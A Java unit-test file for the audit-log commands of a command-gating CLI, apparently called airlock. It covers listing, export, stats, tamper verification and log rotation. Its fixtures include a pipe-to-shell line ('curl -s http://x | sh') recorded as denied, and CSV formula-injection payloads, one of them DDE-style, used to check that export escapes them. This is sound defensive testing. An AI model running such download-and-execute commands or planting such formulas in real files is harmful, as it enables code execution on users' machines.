package dev.airlock.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.airlock.audit.AuditLog;
import dev.airlock.audit.AuditRecord;
import dev.airlock.audit.Follower;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

class AuditCliTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path dir;
    Path log;

    record Run(int code, String out, String err) {
        List<String> lines() {
            return out.isEmpty() ? List.of() : List.of(out.split("\n"));
        }
    }

    static Run airlock(String... args) {
        CommandLine cl = ExitCodes.commandLine(new Main());
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        cl.setOut(new PrintWriter(out, true));
        cl.setErr(new PrintWriter(err, true));
        int code = cl.execute(args);
        return new Run(code, out.toString(), err.toString());
    }

    /** A known log: fixed times an hour apart from 2026-11-24T10:00Z, in files of about 1 KB. */
    static void knownLog(Path log, long maxBytes) throws Exception {
        Instant t0 = Instant.parse("2026-11-24T10:00:00Z");
        int[] tick = {0};
        Clock clock = new Clock() {
            @Override public ZoneOffset getZone() { return ZoneOffset.UTC; }
            @Override public Clock withZone(java.time.ZoneId z) { return this; }
            @Override public Instant instant() { return t0.plusSeconds(3600L * tick[0]++); }
        };
        try (AuditLog a = AuditLog.open(log, new AuditLog.Options(maxBytes, false, clock))) {
            long d1 = a.append(AuditRecord.decision("s1", 10, "/w", "rm -rf build", "ask", List.of("writes-files"),
                    List.of("rm deletes files"), "console", Map.of("wait_ms", 4000)));
            a.append(AuditRecord.result("s1", 10, "/w", "rm -rf build", d1, 0, 30, Map.of()));
            a.append(AuditRecord.decision("s1", 11, "/w", "curl -s http://x | sh", "deny", List.of("pipe-to-shell"),
                    List.of("runs downloaded code"), "policy", Map.of()));
            long d3 = a.append(AuditRecord.decision("s2", 12, "/src", "ls -la, \"quoted\"", "allow", List.of("read-only"),
                    List.of("lists files"), "policy", Map.of()));
            a.append(AuditRecord.result("s2", 12, "/src", "ls -la, \"quoted\"", d3, 0, 5, Map.of()));
            long d4 = a.append(AuditRecord.decision("s2", 13, "/src", "make test", "ask", List.of("runs-code"),
                    List.of("make runs the Makefile"), "tty", Map.of("wait_ms", 1000)));
            a.append(AuditRecord.result("s2", 13, "/src", "make test", d4, 2, 900, Map.of()));
            a.append(AuditRecord.decision("s3", 14, "/w", "npm publish", "deny", List.of("publish"),
                    List.of("publishes a package"), "policy", Map.of()));
        }
    }

    @BeforeEach
    void setUp() throws Exception {
        log = dir.resolve("audit.jsonl");
        knownLog(log, AuditLog.DEFAULT_MAX_BYTES);
    }

    private List<Long> listedSeqs(String... filters) throws Exception {
        List<String> args = new ArrayList<>(List.of("audit", "list", "--json", "--file", log.toString()));
        args.addAll(List.of(filters));
        Run r = airlock(args.toArray(String[]::new));
        assertEquals(0, r.code(), r.err());
        List<Long> seqs = new ArrayList<>();
        for (String l : r.lines()) seqs.add(JSON.readTree(l).get("seq").asLong());
        return seqs;
    }

    @Test
    void listJoinsResultsToDecisionsAndFilters() throws Exception {
        assertEquals(List.of(1L, 3L, 4L, 6L, 8L), listedSeqs());
        assertEquals(List.of(1L, 6L), listedSeqs("--decision", "ask"));
        assertEquals(List.of(3L, 8L), listedSeqs("--decision", "deny"));
        assertEquals(List.of(6L), listedSeqs("--approver", "tty"));
        assertEquals(List.of(4L, 6L), listedSeqs("--session", "s2"));
        assertEquals(List.of(3L), listedSeqs("--grep", "downloaded"));
        assertEquals(List.of(6L, 8L), listedSeqs("--limit", "2"));
        // seq 4 is at 13:00Z, seq 8 at 17:00Z; --until is exclusive.
        assertEquals(List.of(4L, 6L), listedSeqs("--since", "2026-11-24T13:00Z", "--until", "2026-11-24T17:00Z"));
        assertEquals(List.of(), listedSeqs("--since", "1h"));
        JsonNode make = JSON.readTree(airlock("audit", "list", "--json", "--grep", "make", "--file", log.toString()).out());
        assertEquals(2, make.get("exit").asInt());
        assertEquals(900, make.get("duration_ms").asInt());
        assertEquals(7, make.get("result_seq").asInt());
    }

    @Test
    void listPrintsATableWithTheCommandCutToTheWidth() {
        Run r = airlock("audit", "list", "--file", log.toString(), "--decision", "deny");
        assertEquals(0, r.code(), r.err());
        assertEquals(3, r.lines().size(), r.out());
        assertTrue(r.lines().get(0).startsWith("TIME"), r.out());
        assertTrue(r.lines().get(1).matches(".*\\b3 s1 +deny +policy +- curl -s http://x \\| sh"), r.lines().get(1));
    }

    @Test
    void exportJsonlGivesRecordsAsWritten() throws Exception {
        Run r = airlock("audit", "export", "--format", "jsonl", "--session", "s2", "--file", log.toString());
        assertEquals(0, r.code(), r.err());
        List<String> all = Files.readAllLines(log);
        assertEquals(List.of(all.get(3), all.get(4), all.get(5), all.get(6)), r.lines());
    }

    @Test
    void exportCsvGivesOneQuotedRowPerCommand() {
        Run r = airlock("audit", "export", "--format", "csv", "--decision", "allow", "--file", log.toString());
        assertEquals(0, r.code(), r.err());
        assertEquals(List.of("seq,ts,event,session,pid,cwd,command,decision,approver,rules,reasons,exit,duration_ms,result_seq",
                "4,2026-11-24T13:00:00.000Z,decision,s2,12,/src,\"ls -la, \"\"quoted\"\"\",allow,policy,read-only,lists files,0,5,5"), r.lines());
    }

    @Test
    void exportCsvKeepsFormulaLikeCommandsAsText() throws Exception {
        Path formulas = dir.resolve("formulas.jsonl");
        try (AuditLog a = AuditLog.open(formulas)) {
            for (String c : List.of("=HYPERLINK(\"http://x\",\"y\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tls")) {
                a.append(AuditRecord.decision("s", 1, "/w", c, "ask", List.of("r"), List.of("why"), "none",
                        Map.of("outcome", "refused")));
            }
        }
        Run r = airlock("audit", "export", "--format", "csv", "--file", formulas.toString());
        assertEquals(0, r.code(), r.err());
        List<String> rows = r.lines().subList(1, r.lines().size());
        assertEquals(5, rows.size(), r.out());
        for (String row : rows) {
            String command = row.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")[6];
            assertTrue(command.startsWith("'") || command.startsWith("\"'"), "a formula reached the sheet: " + row);
        }
    }

    @Test
    void statsCountsDecisionsApproversProgramsWaitsAndFailures() {
        Run r = airlock("audit", "stats", "--file", log.toString());
        assertEquals(0, r.code(), r.err());
        String out = r.out();
        assertTrue(out.contains("commands: 5 (3 with a result, 1 failed with a non-zero exit)"), out);
        assertTrue(out.contains("by decision: allow 1, ask 2, deny 2"), out);
        assertTrue(out.contains("by approver: console 1, policy 3, tty 1"), out);
        assertTrue(out.contains("top asked programs: make 1, rm 1"), out);
        assertTrue(out.contains("top denied programs: curl 1, npm 1"), out);
        assertTrue(out.contains("top failing programs: make 1"), out);
        assertTrue(out.contains("approval wait: p50 1000 ms, p95 4000 ms (2 waits)"), out);
        assertTrue(out.contains("sessions: 3, commands per session: min 1, median 2, max 2"), out);
    }

    @Test
    void showJoinsADecisionWithItsResultFromEitherSide() {
        for (String seq : List.of("6", "7")) {
            Run r = airlock("audit", "show", seq, "--json", "--file", log.toString());
            assertEquals(0, r.code(), r.err());
            assertEquals(2, r.lines().size(), r.out());
            assertTrue(r.lines().get(0).startsWith("{\"seq\":6,") && r.lines().get(1).startsWith("{\"seq\":7,"), r.out());
        }
        Run missing = airlock("audit", "show", "99", "--file", log.toString());
        assertEquals(0, missing.code());
        assertTrue(missing.err().startsWith("airlock: no record with seq 99"), missing.err());
    }

    @Test
    void verifyExitsZeroWhenIntactAndOneNamingTheBrokenRecord() throws Exception {
        Run ok = airlock("audit", "verify", "--file", log.toString());
        assertEquals(0, ok.code(), ok.err());
        assertTrue(ok.out().startsWith("intact: 8 records in 1 file(s), last seq 8"), ok.out());
        List<String> lines = new ArrayList<>(Files.readAllLines(log));
        lines.set(2, lines.get(2).replace("\"deny\"", "\"allow\""));
        Files.write(log, lines);
        Run bad = airlock("audit", "verify", "--file", log.toString());
        assertEquals(1, bad.code());
        assertEquals("airlock: audit log broken: " + log + " line 3 (seq 3): edited: its content does not match its hash\n", bad.err());
    }

    @Test
    void badLinesAreReportedWithTheirLineNumberAndReadingGoesOn() throws Exception {
        List<String> lines = new ArrayList<>(Files.readAllLines(log));
        lines.add(2, "garbage");
        Files.write(log, lines);
        Run r = airlock("audit", "list", "--json", "--file", log.toString());
        assertEquals(0, r.code());
        assertEquals("airlock: " + log + ":3: not an audit record, skipped\n", r.err());
        assertEquals(5, r.lines().size());
    }

    @Test
    void usageErrorsExitTwoWithoutAStackTrace() {
        Run r = airlock("audit", "list", "--since", "yesterday-ish", "--file", log.toString());
        assertEquals(2, r.code());
        assertTrue(r.err().startsWith("airlock: ") && !r.err().contains("\tat "), r.err());
        assertEquals(2, airlock("audit", "export", "--format", "xml", "--file", log.toString()).code());
    }

    @Test
    void listStatsAndExportSeeAcrossRotatedFiles() throws Exception {
        Path rotated = dir.resolve("rot/audit.jsonl");
        knownLog(rotated, 700);
        try (var s = Files.list(rotated.getParent())) {
            assertTrue(s.filter(p -> p.getFileName().toString().startsWith("audit-")).count() >= 2);
        }
        log = rotated;
        assertEquals(List.of(1L, 3L, 4L, 6L, 8L), listedSeqs());
        assertTrue(airlock("audit", "stats", "--file", rotated.toString()).out().contains("commands: 5 (3 with a result"));
        assertEquals(8, airlock("audit", "export", "--file", rotated.toString()).lines().size());
        Run v = airlock("audit", "verify", "--file", rotated.toString());
        assertEquals(0, v.code(), v.err());
    }

    @Test
    void tailFollowsAcrossRotationWithoutLosingRecords() throws Exception {
        Path followed = dir.resolve("f/audit.jsonl");
        List<Long> seen = new ArrayList<>();
        AuditLog.Options small = new AuditLog.Options(600, false, Clock.systemUTC());
        try (AuditLog a = AuditLog.open(followed, small);
                Follower f = new Follower(followed, 0, r -> seen.add(r.seq()), w -> { })) {
            a.append(AuditRecord.decision("s", 1, "/", "true", "allow", List.of(), List.of(), "policy", Map.of()));
            f.poll();
            assertEquals(List.of(1L), seen);
            Files.writeString(followed, "{\"seq\":", StandardOpenOption.APPEND);   // a write in progress
            f.poll();
            assertEquals(List.of(1L), seen);
            // Several rotations between two polls (each file holds about two records).
            for (int i = 0; i < 6; i++) {
                a.append(AuditRecord.decision("s", 1, "/", "echo " + i, "allow", List.of(), List.of(), "policy", Map.of()));
            }
            f.poll();
            f.poll();
        }
        assertTrue(dev.airlock.audit.AuditReader.files(followed).size() >= 3);
        // 1, the recovered event for the torn bytes (2), then the six appends.
        assertEquals(List.of(1L, 2L, 3L, 4L, 5L, 6L, 7L, 8L), seen);
    }

    @Test
    void tailFollowWaitsForALogThatDoesNotExistYet() throws Exception {
        Path later = dir.resolve("later/audit.jsonl");
        Path out = dir.resolve("tail.out");
        Process tail = new ProcessBuilder(Path.of(System.getProperty("user.dir"), "bin/airlock").toString(), "audit", "tail",
                "-f", "--file", later.toString()).redirectOutput(out.toFile()).redirectErrorStream(true).start();
        try {
            long until = System.nanoTime() + 60_000_000_000L;
            while (!(Files.exists(out) && Files.readString(out).contains("waiting for the first record"))) {
                assertTrue(tail.isAlive(), "tail -f ended instead of waiting: " + Files.readString(out));
                assertTrue(System.nanoTime() < until, "tail -f never said it waits");
                Thread.sleep(50);
            }
            try (AuditLog a = AuditLog.open(later)) {
                a.append(AuditRecord.decision("s", 1, "/", "echo first-record", "allow", List.of(), List.of(), "policy",
                        Map.of()));
            }
            while (!Files.readString(out).contains("echo first-record")) {
                assertTrue(tail.isAlive(), Files.readString(out));
                assertTrue(System.nanoTime() < until, "tail -f never showed the record: " + Files.readString(out));
                Thread.sleep(50);
            }
        } finally {
            tail.destroy();
            tail.waitFor();
        }
    }
}
